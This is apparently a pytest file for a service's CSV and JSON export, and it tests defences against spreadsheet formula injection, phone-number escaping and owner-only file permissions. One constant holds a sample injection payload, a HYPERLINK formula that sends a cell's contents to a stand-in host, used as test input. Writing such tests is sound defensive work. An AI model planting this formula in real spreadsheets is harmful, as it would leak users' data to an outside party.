"""Everything in the books as files that people and programs read, and that no spreadsheet can be tricked by."""

import csv
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import SQLModel, func, select

from service.keeping.export import DANGEROUS, FolderTaken, cell, export
from tests.practice_line import Line

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"look")'


@pytest.fixture
def folder(demo_books, tmp_path):
    line = Line(demo_books)
    line.text("walt", FORMULA)
    line.text("mateo", "saque 14 romanas, mañana más")
    export(demo_books, tmp_path / "out")
    return tmp_path / "out"


def sheet(folder, table):
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def data(folder, table):
    return json.loads((folder / f"{table}.json").read_text("utf-8"))


def test_every_table_is_there_twice_with_every_row(demo_books, folder):
    with demo_books.read() as session:
        for table in SQLModel.metadata.sorted_tables:
            rows = session.execute(select(func.count()).select_from(table)).scalar_one()
            assert (len(sheet(folder, table.name)), len(data(folder, table.name))) == (rows, rows), table.name


def test_headers_are_words(folder):
    assert {"person id", "sent at", "body"} <= set(sheet(folder, "inbound")[0])


def test_json_keeps_every_letter_and_csv_shows_a_formula_as_text(folder):
    assert FORMULA in [one["body"] for one in data(folder, "inbound")]
    assert f"'{FORMULA}" in [one["body"] for one in sheet(folder, "inbound")]
    assert any("mañana más" in one["body"] for one in sheet(folder, "inbound"))


def test_a_number_of_a_phone_is_text_too(folder):
    """It begins with a plus: to a spreadsheet that is a sum."""
    phones = [one["phone"] for one in sheet(folder, "person") if one["phone"]]
    assert phones
    assert all(one.startswith("'+1") for one in phones)


def test_only_the_owner_can_read_what_names_people(folder):
    assert folder.stat().st_mode & 0o077 == 0
    assert {one.stat().st_mode & 0o077 for one in folder.iterdir()} == {0}


def test_a_folder_with_something_in_it_is_left_alone(demo_books, folder):
    before = sorted(one.name for one in folder.iterdir())
    with pytest.raises(FolderTaken):
        export(demo_books, folder)
    assert sorted(one.name for one in folder.iterdir()) == before


@given(st.text())
def test_no_text_begins_a_formula(text):
    """OWASP, CSV Injection: cells that begin with = + - @, a tab or a line end, or their full-width forms."""
    assert not cell(text).startswith(DANGEROUS)
    assert cell(text).removeprefix("'") == text or cell(text) == text


@pytest.mark.parametrize("number", [-3, -1.5, 0, 12, True, None])
def test_numbers_stay_numbers(number):
    assert not cell(number).startswith("'")
